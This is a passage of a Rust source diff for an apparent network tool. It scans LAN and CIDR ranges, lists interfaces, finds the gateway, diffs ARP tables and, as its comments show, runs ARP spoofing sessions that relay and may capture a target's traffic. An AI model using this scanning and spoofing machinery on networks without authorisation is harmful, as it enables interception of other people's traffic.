+    /// Thread counting, and possibly capturing, relayed traffic; joined when the
+    /// session is stopped. Sessions started by `start_spoof_all` share one
+    /// monitor instead, which exits once all of them are stopped.
+    pub monitor_thread: Option<JoinHandle<()>>,
+}
+
+/// What a stopped session leaves running until its ARP entries are restored
+type SessionThreads = (Option<mpsc::Receiver<()>>, Option<JoinHandle<()>>);
+
+impl SpoofingSessionInfo {
+    fn take_threads(&mut self) -> SessionThreads {
+        (self.spoof_done.take(), self.monitor_thread.take())
+    }
+}
+
+/// Per-session throughput, emitted as `session-stats` once a second
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SessionStats {
+    pub session_id: String,
+    pub bytes_up: u64,
+    pub bytes_down: u64,
+    /// Bytes per second sent by the target over the last interval
+    pub up_rate: f64,
+    /// Bytes per second received by the target over the last interval
+    pub down_rate: f64,
+}
+
+/// Payload of the `session-error` event, emitted when a session stops on its own
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SessionError {
+    pub session_id: String,
+    pub error: AppError,
+}
+
+impl SpoofingSessions {
+    pub fn inner(&self) -> Arc<Mutex<SessionTable>> {
+        self.0.clone()
+    }
+}
+
+/// Handle used to cancel an in-progress network scan
+#[derive(Debug, Clone, Default)]
+pub struct ScanHandle {
+    cancel_flag: Arc<AtomicBool>,
+}
+
+impl ScanHandle {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    pub fn cancel(&self) {
+        self.cancel_flag.store(true, Ordering::SeqCst);
+    }
+
+    pub fn is_cancelled(&self) -> bool {
+        self.cancel_flag.load(Ordering::SeqCst)
+    }
+}
+
+/// Cancels a scan that is still running when its deadline passes
+struct ScanWatchdog {
+    // Dropping the sender, including on an early return, wakes the thread
+    done: Option<mpsc::Sender<()>>,
+    timed_out: Arc<AtomicBool>,
+    thread: Option<JoinHandle<()>>,
+}
+
+impl ScanWatchdog {
+    /// Watch `scan` for up to `max_duration_ms`; does nothing when unset
+    fn start(scan: &ScanHandle, max_duration_ms: Option<u64>) -> Self {
+        let timed_out = Arc::new(AtomicBool::new(false));
+        let max_duration = match max_duration_ms {
+            Some(ms) => Duration::from_millis(ms),
+            None => return Self { done: None, timed_out, thread: None },
+        };
+        
+        let (done, finished) = mpsc::channel::<()>();
+        let scan = scan.clone();
+        let flag = timed_out.clone();
+        let thread = thread::spawn(move || {
+            if let Err(mpsc::RecvTimeoutError::Timeout) = finished.recv_timeout(max_duration) {
+                flag.store(true, Ordering::SeqCst);
+                scan.cancel();
             }
-        }
+        });
+        
+        Self { done: Some(done), timed_out, thread: Some(thread) }
     }
     
-    // Method 5: Use netsh to discover neighbors
-    println!("Checking neighbor discovery...");
-    if let Ok(neighbors) = get_neighbor_discovery(network) {
-        for (ip, mac) in neighbors {
-            devices.insert(ip, (mac, "Neighbor Discovery".to_string()));
+    /// Stop watching and report whether the deadline cancelled the scan
+    fn finish(mut self) -> bool {
+        drop(self.done.take());
+        if let Some(thread) = self.thread.take() {
+            let _ = thread.join();
         }
+        self.timed_out.load(Ordering::SeqCst)
     }
+}
+
+/// Scans currently running, keyed by the caller-supplied scan id
+#[derive(Default)]
+pub struct ActiveScans(Arc<Mutex<HashMap<String, ScanHandle>>>);
+
+impl ActiveScans {
+    /// Register a new scan under `scan_id` and return its handle
+    pub fn register(&self, scan_id: &str) -> ScanHandle {
+        let handle = ScanHandle::new();
+        if let Ok(mut scans) = self.0.lock() {
+            scans.insert(scan_id.to_string(), handle.clone());
+        }
+        handle
+    }
+
+    /// Remove a finished scan from the registry
+    pub fn remove(&self, scan_id: &str) {
+        if let Ok(mut scans) = self.0.lock() {
+            scans.remove(scan_id);
+        }
+    }
+}
+
+/// Devices found by `scan_network`, with what was scanned and how
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ScanResult {
+    pub devices: Vec<NetworkDevice>,
+    pub interface: String,
+    /// Scanned range in CIDR notation
+    pub network: String,
+    pub duration_ms: u64,
+    /// Unix time in milliseconds when the scan finished
+    pub scanned_at: i64,
+    /// Discovery methods that ran, in order
+    pub methods_used: Vec<String>,
+    /// Number of devices each method found first. Hosts woken by the ping
+    /// sweep and ARP requests are counted under "ARP Scan", where they show up.
+    #[serde(default)]
+    pub method_counts: HashMap<String, usize>,
+    /// The scan hit `max_duration_ms` and `devices` holds only what was found by then
+    #[serde(default)]
+    pub timed_out: bool,
+    /// Number of probe workers the scan ran with
+    #[serde(default)]
+    pub concurrency: usize,
+}
+
+/// Differences between two scans of the same network
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ScanDiff {
+    pub added: Vec<NetworkDevice>,
+    pub removed: Vec<NetworkDevice>,
+    /// (old, new) pairs for IPs whose MAC or hostname changed
+    pub changed: Vec<(NetworkDevice, NetworkDevice)>,
+}
+
+/// Compare two device lists by IP
+pub fn diff_devices(previous: &[NetworkDevice], current: &[NetworkDevice]) -> ScanDiff {
+    let previous_by_ip: HashMap<&str, &NetworkDevice> =
+        previous.iter().map(|device| (device.ip.as_str(), device)).collect();
+    let current_by_ip: HashMap<&str, &NetworkDevice> =
+        current.iter().map(|device| (device.ip.as_str(), device)).collect();
     
-    // Convert to final device list
+    let mut diff = ScanDiff {
+        added: Vec::new(),
+        removed: Vec::new(),
+        changed: Vec::new(),
+    };
+    
+    for device in current {
+        match previous_by_ip.get(device.ip.as_str()) {
+            None => diff.added.push(device.clone()),
+            Some(old) => {
+                let mac_changed = normalize_mac(&old.mac) != normalize_mac(&device.mac);
+                // A failed lookup is not a rename
+                let hostname_changed = old.hostname != device.hostname
+                    && old.hostname != "Unknown"
+                    && device.hostname != "Unknown";
+                if mac_changed || hostname_changed {
+                    diff.changed.push(((*old).clone(), device.clone()));
+                }
+            }
+        }
+    }
+    
+    for device in previous {
+        if !current_by_ip.contains_key(device.ip.as_str()) {
+            diff.removed.push(device.clone());
+        }
+    }
+    
+    diff
+}
+
+/// Differences between two snapshots of the ARP table
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ArpDiff {
+    pub added: Vec<ArpEntry>,
+    pub removed: Vec<ArpEntry>,
+    /// (old, new) pairs for IPs whose MAC changed or became static, as when
+    /// another tool on the segment poisons this machine
+    pub changed: Vec<(ArpEntry, ArpEntry)>,
+}
+
+/// Current contents of the system ARP table, to keep and compare with `diff_arp_snapshots` later
+pub fn snapshot_arp_table() -> Result<Vec<ArpEntry>, AppError> {
+    let mut entries = read_arp_table()
+        .map_err(|e| network_error("Failed to read ARP table", Some(&e)))?;
+    entries.sort_by_key(|entry| entry.ip.parse::<IpAddr>().ok());
+    Ok(entries)
+}
+
+/// Compare two ARP table snapshots by IP
+pub fn diff_arp_snapshots(previous: &[ArpEntry], current: &[ArpEntry]) -> ArpDiff {
+    let previous_by_ip: HashMap<&str, &ArpEntry> =
+        previous.iter().map(|entry| (entry.ip.as_str(), entry)).collect();
+    let current_by_ip: HashMap<&str, &ArpEntry> =
+        current.iter().map(|entry| (entry.ip.as_str(), entry)).collect();
+    
+    let mut diff = ArpDiff {
+        added: Vec::new(),
+        removed: Vec::new(),
+        changed: Vec::new(),
+    };
+    
+    for entry in current {
+        match previous_by_ip.get(entry.ip.as_str()) {
+            None => diff.added.push(entry.clone()),
+            Some(old) => {
+                let mac_changed = normalize_mac(&old.mac) != normalize_mac(&entry.mac);
+                if mac_changed || old.is_static != entry.is_static {
+                    diff.changed.push(((*old).clone(), entry.clone()));
+                }
+            }
+        }
+    }
+    
+    for entry in previous {
+        if !current_by_ip.contains_key(entry.ip.as_str()) {
+            diff.removed.push(entry.clone());
+        }
+    }
+    
+    diff
+}
+
+/// Last scan result for an interface
+#[derive(Debug, Clone)]
+struct CachedScan {
+    result: ScanResult,
+    prefix_len: Option<u8>,
+    mode: ScanMode,
+    scanned_at: Instant,
+    refreshing: bool,
+}
+
+/// Recent scan results, keyed by interface name
+#[derive(Default, Clone)]
+pub struct ScanCache(Arc<Mutex<HashMap<String, CachedScan>>>);
+
+impl ScanCache {
+    /// Cached result of a scan with the same parameters that is no older than `max_age`
+    pub fn get_fresh(
+        &self,
+        interface_name: &str,
+        prefix_len: Option<u8>,
+        mode: ScanMode,
+        max_age: Duration,
+    ) -> Option<ScanResult> {
+        let cache = self.0.lock().ok()?;
+        let cached = cache.get(interface_name)?;
+        
+        if cached.prefix_len == prefix_len && cached.mode == mode && cached.scanned_at.elapsed() <= max_age {
+            // Labels may have changed since the scan
+            let mut result = cached.result.clone();
+            apply_device_labels(&mut result.devices);
+            Some(result)
+        } else {
+            None
+        }
+    }
+
+    /// Remember the result of a completed scan
+    pub fn store(&self, interface_name: &str, prefix_len: Option<u8>, mode: ScanMode, result: &ScanResult) {
+        if let Ok(mut cache) = self.0.lock() {
+            cache.insert(interface_name.to_string(), CachedScan {
+                result: result.clone(),
+                prefix_len,
+                mode,
+                scanned_at: Instant::now(),
+                refreshing: false,
+            });
+        }
+    }
+
+    /// Devices from the most recent scan of an interface, however old
+    pub fn last(&self, interface_name: &str) -> Option<Vec<NetworkDevice>> {
+        let cache = self.0.lock().ok()?;
+        cache.get(interface_name).map(|cached| cached.result.devices.clone())
+    }
+
+    /// Mark a background refresh as started; false if one is already running
+    fn begin_refresh(&self, interface_name: &str) -> bool {
+        match self.0.lock() {
+            Ok(mut cache) => match cache.get_mut(interface_name) {
+                Some(cached) if !cached.refreshing => {
+                    cached.refreshing = true;
+                    true
+                }
+                _ => false,
+            },
+            Err(_) => false,
+        }
+    }
+
+    fn end_refresh(&self, interface_name: &str) {
+        if let Ok(mut cache) = self.0.lock() {
+            if let Some(cached) = cache.get_mut(interface_name) {
+                cached.refreshing = false;
+            }
+        }
+    }
+}
+
+/// Check whether the process runs with administrator (or root) privileges
+pub fn is_elevated() -> bool {
+    Platform::is_elevated()
+}
+
+/// Fail with a PermissionError when the process is not elevated
+fn require_elevation(operation: &str) -> Result<(), AppError> {
+    if is_elevated() {
+        return Ok(());
+    }
+    
+    Err(permission_error(
+        &format!("Administrator privileges are required to {}", operation),
+        Some(Platform::ELEVATION_HINT),
+    ))
+}
+
+pub fn get_interfaces() -> Result<Vec<CustomNetworkInterface>, AppError> {
+    let mut interfaces = Vec::new();
+    
+    // Get all network interfaces using if-addrs
+    let if_addrs = get_if_addrs()
+        .map_err(|e| interface_error("Failed to get interfaces", Some(&e.to_string())))?;
+    
+    // Group interfaces by name
+    let mut interface_map: HashMap<String, Vec<IpAddr>> = HashMap::new();
+    let mut ipv6_map: HashMap<String, Vec<String>> = HashMap::new();
+    
+    for iface in if_addrs {
+        if iface.is_loopback() {
+            continue;
+        }
+        
+        match iface.ip() {
+            // Only include IPv4 addresses that are not link-local
+            IpAddr::V4(ipv4) => {
+                if !ipv4.is_link_local() && !ipv4.is_loopback() {
+                    interface_map.entry(iface.name.clone())
+                        .or_insert_with(Vec::new)
+                        .push(iface.ip());
+                }
+            }
+            IpAddr::V6(ipv6) => {
+                if !ipv6.is_loopback() && !ipv6.is_unspecified() {
+                    ipv6_map.entry(iface.name.clone())
+                        .or_insert_with(Vec::new)
+                        .push(ipv6.to_string());
+                }
+            }
+        }
+    }
+    
+    // Get additional interface information using network-interface crate
+    let network_interfaces = NetworkInterface::show()
+        .map_err(|e| interface_error("Failed to get network interfaces", Some(&e.to_string())))?;
+    
+    for (name, ips) in interface_map {
+        if ips.is_empty() {
+            continue;
+        }
+        
+        // Find matching network interface for MAC address
+        let mac_addr = network_interfaces.iter()
+            .find(|ni| ni.name == name)
+            .and_then(|ni| ni.mac_addr.as_ref())
+            .and_then(|mac| normalize_mac(&mac.to_string()))
+            .unwrap_or_else(|| "00:00:00:00:00:00".to_string());
+        
+        let ip_strings: Vec<String> = ips.iter().map(|ip| ip.to_string()).collect();
+        
+        let is_virtual = is_virtual_adapter(&name, &mac_addr);
+        let (is_up, speed_mbps) = match Platform::link_status(&name) {
+            Ok(status) => status,
+            Err(e) => {
+                eprintln!("Failed to read link status for {}: {}", name, e);
+                // It has an address, so assume it is usable
+                (true, None)
+            }
+        };
+        
+        let custom_interface = CustomNetworkInterface {
+            name: name.clone(),
+            description: format!("{} - {}", name, ip_strings.join(", ")),
+            mac: mac_addr,
+            ips: ip_strings,
+            ipv6s: ipv6_map.remove(&name).unwrap_or_default(),
+            is_virtual,
+            is_up,
+            speed_mbps,
+        };
+        
+        interfaces.push(custom_interface);
+    }
+    
+    if interfaces.is_empty() {
+        return Err(interface_error("No suitable network interfaces found", None));
+    }
+    
+    Ok(interfaces)
+}
+
+/// Name fragments of hypervisor, container and VPN adapters
+const VIRTUAL_ADAPTER_KEYWORDS: &[&str] = &[
+    "vmware", "virtualbox", "vbox", "vethernet", "hyper-v", "wsl", "docker",
+    "vpn", "tap-windows", "wireguard", "tailscale", "zerotier", "hamachi", "loopback",
+];
+
+/// MAC prefixes (OUIs) assigned to virtual NICs
+const VIRTUAL_MAC_PREFIXES: &[&str] = &[
+    "00:50:56", "00:0c:29", "00:05:69", // VMware
+    "08:00:27", "0a:00:27",             // VirtualBox
+    "00:15:5d",                         // Hyper-V
+    "00:1c:42",                         // Parallels
+];
+
+/// Guess whether an adapter is virtual from its name and MAC vendor prefix
+fn is_virtual_adapter(name: &str, mac: &str) -> bool {
+    let name = name.to_lowercase();
+    let mac = normalize_mac(mac).unwrap_or_default();
+    
+    VIRTUAL_ADAPTER_KEYWORDS.iter().any(|keyword| name.contains(keyword))
+        || VIRTUAL_MAC_PREFIXES.iter().any(|prefix| mac.starts_with(prefix))
+}
+
+/// Whether `ip` is an IPv6 link-local (`fe80::/10`) address
+fn is_ipv6_link_local(ip: &str) -> bool {
+    ip.parse::<Ipv6Addr>()
+        .map(|ip| (ip.segments()[0] & 0xffc0) == 0xfe80)
+        .unwrap_or(false)
+}
+
+/// Interfaces to offer for scanning and spoofing; virtual adapters and
+/// link-local IPv6 addresses only when requested
+pub fn get_usable_interfaces(
+    include_virtual: bool,
+    include_link_local: bool,
+) -> Result<Vec<CustomNetworkInterface>, AppError> {
+    let mut interfaces: Vec<CustomNetworkInterface> = get_interfaces()?
+        .into_iter()
+        .filter(|iface| include_virtual || !iface.is_virtual)
+        .collect();
+    
+    if !include_link_local {
+        for iface in &mut interfaces {
+            iface.ipv6s.retain(|ip| !is_ipv6_link_local(ip));
+        }
+    }
+    
+    // Connected adapters first, fastest links at the top
+    interfaces.sort_by(|a, b| {
+        b.is_up.cmp(&a.is_up)
+            .then(b.speed_mbps.cmp(&a.speed_mbps))
+            .then(a.name.cmp(&b.name))
+    });
+    
+    if interfaces.is_empty() {
+        return Err(interface_error(
+            "No physical network interfaces found",
+            Some("Only virtual or VPN adapters are available; include them explicitly to use one"),
+        ));
+    }
+    
+    Ok(interfaces)
+}
+
+/// Interface holding `ip` as one of its IPv4 or IPv6 addresses, for users
+/// who know their address but not the adapter name
+pub fn find_interface_by_ip(ip: String) -> Result<CustomNetworkInterface, AppError> {
+    let address: IpAddr = ip.trim().parse()
+        .map_err(|_| config_error(&format!("Invalid IP address: {}", ip), None))?;
+    
+    get_interfaces()?
+        .into_iter()
+        .find(|iface| {
+            iface.ips.iter()
+                .chain(iface.ipv6s.iter())
+                .any(|candidate| candidate.parse::<IpAddr>().ok() == Some(address))
+        })
+        .ok_or_else(|| interface_error(
+            &format!("No network interface has the address {}", address),
+            Some("Pick one of the addresses listed for your interfaces"),
+        ))
+}
+
+/// Accept either an interface name or one of its IP addresses and return the name
+pub fn resolve_interface_name(interface: String) -> Result<String, AppError> {
+    if interface.trim().parse::<IpAddr>().is_ok() {
+        return find_interface_by_ip(interface).map(|iface| iface.name);
+    }
+    Ok(interface)
+}
+
+/// Why `ip` can't be a single host on a LAN, if it can't
+fn non_host_address_kind(ip: Ipv4Addr) -> Option<&'static str> {
+    if ip.is_broadcast() {
+        Some("the broadcast address")
+    } else if ip.octets()[0] == 0 {
+        Some("a \"this network\" address (0.0.0.0/8)")
+    } else if ip.is_loopback() {
+        Some("a loopback address")
+    } else if ip.is_multicast() {
+        Some("a multicast address")
+    } else if ip.octets()[0] >= 240 {
+        Some("a reserved address (240.0.0.0/4)")
+    } else {
+        None
+    }
+}
+
+/// Reject multicast, broadcast, loopback and reserved addresses, which make
+/// no sense as a scan or spoofing target
+pub fn validate_host_ip(ip: Ipv4Addr) -> Result<(), AppError> {
+    match non_host_address_kind(ip) {
+        Some(kind) => Err(config_error(&format!("{} is {}, not a host", ip, kind), None)),
+        None => Ok(()),
+    }
+}
+
+/// Parse a user-supplied host address and check it with `validate_host_ip`
+fn parse_host_ip(ip: &str, what: &str) -> Result<Ipv4Addr, AppError> {
+    let addr: Ipv4Addr = ip.trim().parse()
+        .map_err(|e: std::net::AddrParseError| config_error(&format!("Invalid {}", what), Some(&e.to_string())))?;
+    validate_host_ip(addr)?;
+    Ok(addr)
+}
+
+/// Smallest and largest subnet prefix accepted for a scan
+pub const MIN_SCAN_PREFIX: u8 = 8;
+pub const MAX_SCAN_PREFIX: u8 = 30;
+
+/// Validate a user-supplied subnet prefix length for scanning
+pub fn validate_prefix_len(prefix_len: u8) -> Result<(), AppError> {
+    if prefix_len < MIN_SCAN_PREFIX || prefix_len > MAX_SCAN_PREFIX {
+        return Err(config_error(
+            &format!(
+                "Invalid subnet prefix /{}: must be between /{} and /{}",
+                prefix_len, MIN_SCAN_PREFIX, MAX_SCAN_PREFIX
+            ),
+            None,
+        ));
+    }
+    Ok(())
+}
+
+pub fn scan_network(
+    interface_name: String,
+    prefix_len: Option<u8>,
+    mode: ScanMode,
+    options: &ScanOptions,
+    scan: &ScanHandle,
+    app: &AppHandle,
+) -> Result<ScanResult, AppError> {
+    require_elevation("scan the network")?;
+    options.validate()?;
+    
+    let started = Instant::now();
+    let concurrency = options.scan_concurrency(&interface_name);
+    let watchdog = ScanWatchdog::start(scan, options.max_duration_ms);
+    let mut devices = Vec::new();
+    let mut networks = Vec::new();
+    let mut methods_used = Vec::new();
+    let mut method_counts = HashMap::new();
+    
+    if mode.includes_ipv4() {
+        let (interface, network) = get_interface_network(&interface_name, prefix_len)?;
+        validate_prefix_len(network.prefix())?;
+        options.validate_host_range(network)?;
+        
+        // Perform Windows API-based ARP scan
+        let (ipv4_devices, methods, counts) = perform_arp_scan(network, network.ip(), &interface.mac, options, concurrency, scan, app)
+            .map_err(|e| network_error("Failed to scan network", Some(&e)))?;
+        devices = ipv4_devices;
+        methods_used.extend(methods);
+        method_counts = counts;
+        networks.push(Ipv4Network::new(network.network(), network.prefix())
+            .map(|network| network.to_string())
+            .unwrap_or_else(|_| network.to_string()));
+    }
+    
+    if mode.includes_ipv6() && !scan.is_cancelled() {
+        match perform_ipv6_neighbor_scan(&interface_name, options.dns_server, app) {
+            Ok(ipv6_devices) => {
+                method_counts.insert("IPv6 Neighbor Discovery".to_string(), ipv6_devices.len());
+                devices.extend(ipv6_devices);
+                methods_used.push("IPv6 Neighbor Discovery".to_string());
+                networks.push("fe80::/10".to_string());
+            }
+            // IPv6 is best-effort when combined with an IPv4 scan
+            Err(e) if mode == ScanMode::Both => eprintln!("IPv6 neighbor scan failed: {}", e),
+            Err(e) => return Err(e),
+        }
+    }
+    
+    let timed_out = watchdog.finish();
+    if timed_out {
+        eprintln!("Scan of {} hit its {}ms limit, returning partial results",
+                  interface_name, options.max_duration_ms.unwrap_or_default());
+    }
+    
+    Ok(ScanResult {
+        devices,
+        interface: interface_name,
+        network: networks.join(", "),
+        duration_ms: started.elapsed().as_millis() as u64,
+        scanned_at: chrono::Utc::now().timestamp_millis(),
+        methods_used,
+        method_counts,
+        timed_out,
+        concurrency,
+    })
+}
+
+/// Largest range accepted by `scan_cidr` (65,534 hosts)
+pub const MIN_CIDR_SCAN_PREFIX: u8 = 16;
+
+/// Parse a user-supplied CIDR such as `10.0.5.0/24`, normalized to its network address
+pub fn parse_scan_cidr(cidr: &str) -> Result<Ipv4Network, AppError> {
+    let parsed = Ipv4Network::from_str(cidr.trim())
+        .map_err(|e| config_error(&format!("Invalid CIDR range '{}'", cidr), Some(&e.to_string())))?;
+    
+    if parsed.prefix() < MIN_CIDR_SCAN_PREFIX {
+        return Err(config_error(
+            &format!(
+                "CIDR range {} is too large: the prefix must be /{} or longer",
+                cidr, MIN_CIDR_SCAN_PREFIX
+            ),
+            None,
+        ));
+    }
+    validate_prefix_len(parsed.prefix())?;
+    // A range touching multicast or reserved space holds no scannable hosts
+    for edge in [parsed.network(), parsed.broadcast()] {
+        if let Some(kind) = non_host_address_kind(edge) {
+            return Err(config_error(
+                &format!("CIDR range {} covers {}", cidr, kind),
+                None,
+            ));
+        }
+    }
+    
+    Ipv4Network::new(parsed.network(), parsed.prefix())
+        .map_err(|e| config_error(&format!("Invalid CIDR range '{}'", cidr), Some(&e.to_string())))
+}
+
+/// Scan an arbitrary IPv4 range through an interface, e.g. a routed VLAN
+pub fn scan_cidr(
+    interface_name: String,
+    cidr: String,
+    options: &ScanOptions,
+    scan: &ScanHandle,
+    app: &AppHandle,
+) -> Result<Vec<NetworkDevice>, AppError> {
+    scan_cidr_detailed(interface_name, cidr, options, scan, app)
+        .map(|result| result.devices)
+}
+
+/// `scan_cidr` with what was scanned and how
+fn scan_cidr_detailed(
+    interface_name: String,
+    cidr: String,
+    options: &ScanOptions,
+    scan: &ScanHandle,
+    app: &AppHandle,
+) -> Result<ScanResult, AppError> {
+    require_elevation("scan the network")?;
+    options.validate()?;
+    
+    let started = Instant::now();
+    let network = parse_scan_cidr(&cidr)?;
+    options.validate_host_range(network)?;
+    let (interface, local_network) = get_interface_network(&interface_name, None)?;
+    
+    let concurrency = options.scan_concurrency(&interface_name);
+    let watchdog = ScanWatchdog::start(scan, options.max_duration_ms);
+    let scanned = perform_arp_scan(network, local_network.ip(), &interface.mac, options, concurrency, scan, app);
+    let timed_out = watchdog.finish();
+    let (devices, methods_used, method_counts) =
+        scanned.map_err(|e| network_error("Failed to scan network", Some(&e)))?;
+    
+    Ok(ScanResult {
+        devices,
+        interface: interface_name,
+        network: network.to_string(),
+        duration_ms: started.elapsed().as_millis() as u64,
+        scanned_at: chrono::Utc::now().timestamp_millis(),
+        methods_used,
+        method_counts,
+        timed_out,
+        concurrency,
+    })
+}
+
+static SCAN_PROFILES_FILE: &str = "scan_profiles.json";
+
+/// Held while the profiles file is read, changed and written back, so two
+/// saves can't each drop the other's profile
+static SCAN_PROFILES_LOCK: Mutex<()> = Mutex::new(());
+
+/// Named scan settings saved in the config directory, replayed by `run_scan_profile`
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ScanProfile {
+    pub name: String,
+    pub interface: String,
+    /// Range to scan through the interface; its own subnet when unset
+    #[serde(default)]
+    pub cidr: Option<String>,
+    /// Address families to scan when no `cidr` is set
+    #[serde(default)]
+    pub mode: ScanMode,
+    /// Discovery methods, concurrency and timeouts
+    #[serde(default)]
+    pub options: ScanOptions,
+}
+
+/// Every saved scan profile, in the order they were first saved
+pub fn list_scan_profiles() -> Result<Vec<ScanProfile>, AppError> {
+    Ok(storage::load_json(SCAN_PROFILES_FILE)
+        .map_err(|e| system_error("Failed to load scan profiles", Some(&e)))?
+        .unwrap_or_default())
+}
+
+/// Save `profile`, replacing a saved profile of the same name, and return all profiles
+pub fn save_scan_profile(mut profile: ScanProfile) -> Result<Vec<ScanProfile>, AppError> {
+    profile.name = profile.name.trim().to_string();
+    if profile.name.is_empty() {
+        return Err(config_error("Scan profile name must not be empty", None));
+    }
+    if profile.interface.trim().is_empty() {
+        return Err(config_error("Scan profile interface must not be empty", None));
+    }
+    profile.options.validate()?;
+    if let Some(cidr) = &profile.cidr {
+        let network = parse_scan_cidr(cidr)?;
+        profile.options.validate_host_range(network)?;
+        profile.cidr = Some(network.to_string());
+    }
+    
+    let _guard = SCAN_PROFILES_LOCK.lock()
+        .map_err(|e| system_error("Failed to access scan profiles", Some(&e.to_string())))?;
+    let mut profiles = list_scan_profiles()?;
+    match profiles.iter_mut().find(|saved| saved.name == profile.name) {
+        Some(saved) => *saved = profile,
+        None => profiles.push(profile),
+    }
+    
+    storage::save_json(SCAN_PROFILES_FILE, &profiles)
+        .map_err(|e| system_error("Failed to save scan profiles", Some(&e)))?;
+    
+    Ok(profiles)
+}
+
+/// Scan with the settings of the saved profile `name`
+pub fn run_scan_profile(name: &str, scan: &ScanHandle, app: &AppHandle) -> Result<ScanResult, AppError> {
+    let profile = list_scan_profiles()?
+        .into_iter()
+        .find(|profile| profile.name == name.trim())
+        .ok_or_else(|| config_error(&format!("Scan profile '{}' not found", name), None))?;
+    
+    match profile.cidr {
+        Some(cidr) => scan_cidr_detailed(profile.interface, cidr, &profile.options, scan, app),
+        None => scan_network(profile.interface, None, profile.mode, &profile.options, scan, app),
+    }
+}
+
+/// Rescan an interface on a background thread, updating the cache and emitting `scan-refreshed`
+pub fn refresh_scan_in_background(
+    interface_name: String,
+    prefix_len: Option<u8>,
+    mode: ScanMode,
+    options: ScanOptions,
+    cache: ScanCache,
+    app: AppHandle,
+) {
+    if !cache.begin_refresh(&interface_name) {
+        return;
+    }
+    
+    thread::spawn(move || {
+        let scan = ScanHandle::new();
+        match scan_network(interface_name.clone(), prefix_len, mode, &options, &scan, &app) {
+            Ok(result) => {
+                cache.store(&interface_name, prefix_len, mode, &result);
+                if let Err(e) = app.emit("scan-refreshed", &result) {
+                    eprintln!("Failed to emit scan-refreshed event: {}", e);
+                }
+            }
+            Err(e) => {
+                eprintln!("Background scan of {} failed: {}", interface_name, e);
+                cache.end_refresh(&interface_name);
+            }
+        }
+    });
+}
+
+/// Build devices from the IPv6 neighbor cache of an interface
+fn perform_ipv6_neighbor_scan(
+    interface_name: &str,
+    dns_server: Option<IpAddr>,
+    app: &AppHandle,
+) -> Result<Vec<NetworkDevice>, AppError> {
+    let interfaces = get_interfaces()?;
+    if !interfaces.iter().any(|iface| iface.name == interface_name) {
+        return Err(interface_error(&format!("Interface '{}' not found", interface_name), None));
+    }
+    
+    println!("Checking IPv6 neighbor discovery...");
     let mut device_list = Vec::new();
     
-    for (ip, (mac, discovery_method)) in devices {
-        let hostname = resolve_hostname(&ip).unwrap_or_else(|| "Unknown".to_string());
-        let vendor = get_vendor_from_mac(&mac).unwrap_or_else(|| discovery_method);
+    let neighbors = Platform::ipv6_neighbors(interface_name)
+        .map_err(|e| network_error("Failed to read IPv6 neighbors", Some(&e)))?;
+    let ips = neighbors.iter().map(|(ip, _)| ip.clone()).collect();
+    let mut hostnames = resolve_hostnames(ips, default_scan_concurrency(), dns_server, &ScanHandle::new());
+    
+    for (ip, mac) in neighbors {
+        let hostname = hostnames.remove(&ip).unwrap_or_else(|| "Unknown".to_string());
+        let vendor = get_vendor_from_mac(&mac).unwrap_or_else(|| "IPv6 Neighbor Discovery".to_string());
         
-        device_list.push(NetworkDevice {
+        let device = NetworkDevice {
             ip,
             mac,
             hostname,
             vendor,
-        });
+            open_ports: Vec::new(),
+            conflict: false,
+            device_type: None,
+            label: None,
+            online: true,
+        };
+        
+        if let Err(e) = app.emit("device-found", device.clone()) {
+            eprintln!("Failed to emit device-found event: {}", e);
+        }
+        device_list.push(device);
+    }
+    
+    apply_device_labels(&mut device_list);
+    println!("IPv6 scan complete. Found {} devices", device_list.len());
+    Ok(device_list)
+}
+
+/// Resolve an interface and the IPv4 network of its first address.
+///
+/// The returned network keeps the interface's own IP as its address.
+fn get_interface_network(
+    interface_name: &str,
+    prefix_len: Option<u8>,
+) -> Result<(CustomNetworkInterface, Ipv4Network), AppError> {
+    // Get the interface information
+    let interfaces = get_interfaces()?;
+    let interface = interfaces.into_iter()
+        .find(|iface| iface.name == interface_name)
+        .ok_or_else(|| interface_error(&format!("Interface '{}' not found", interface_name), None))?;
+    
+    // Get the first IPv4 address from the interface
+    let local_ip_str = interface.ips.first()
+        .ok_or_else(|| interface_error("No IPv4 address found on interface", Some(interface_name)))?;
+    
+    let local_ip: Ipv4Addr = local_ip_str.parse()
+        .map_err(|e: std::net::AddrParseError| interface_error("Invalid IP address", Some(&e.to_string())))?;
+    
+    // Use the caller's prefix, otherwise the netmask the interface actually reports
+    let prefix = match prefix_len {
+        Some(prefix) => prefix,
+        None => get_interface_prefix(interface_name, local_ip)
+            .map_err(|e| interface_error("Failed to determine subnet", Some(&e)))?,
+    };
+    
+    let network = Ipv4Network::new(local_ip, prefix)
+        .map_err(|e| config_error("Failed to create network", Some(&e.to_string())))?;
+    
+    Ok((interface, network))
+}
+
+/// Detect the default gateway reachable through the given interface
+pub fn get_default_gateway(interface_name: &str) -> Result<String, AppError> {
+    Platform::default_routes(Some(interface_name))
+        .map_err(|e| network_error("Failed to read routing table", Some(&e)))?
+        .into_iter()
+        // On-link default routes have no next hop to spoof
+        .find(|gateway| !gateway.is_unspecified())
+        .map(|gateway| gateway.to_string())
+        .ok_or_else(|| network_error(&format!("No default route found on interface '{}'", interface_name), None))
+}
+
+/// The router of an interface as a device, found from the routing table so it
+/// is identified even when a scan misses it
+pub fn get_gateway_device(interface_name: String) -> Result<NetworkDevice, AppError> {
+    let gateway = get_default_gateway(&interface_name)?;
+    let mac = resolve_mac(&gateway, &interface_name)
+        .map_err(|e| network_error("Failed to resolve the gateway's MAC address", Some(&e)))?;
+    
+    let hostname = resolve_hostname(&gateway, None);
+    hostname_cache::save();
+    
+    let mut device = NetworkDevice {
+        vendor: get_vendor_from_mac(&mac).unwrap_or_else(|| "Unknown".to_string()),
+        ip: gateway,
+        mac,
+        hostname: hostname.unwrap_or_else(|| "Unknown".to_string()),
+        open_ports: Vec::new(),
+        conflict: false,
+        device_type: None,
+        label: None,
+        online: true,
+    };
+    device.device_type = device_type::classify(&device, true);
+    apply_device_labels(std::slice::from_mut(&mut device));
+    
+    Ok(device)
+}
+
+/// Cancel a running scan; partial results are still returned by the scan itself
+pub fn cancel_scan(
+    scan_id: String,
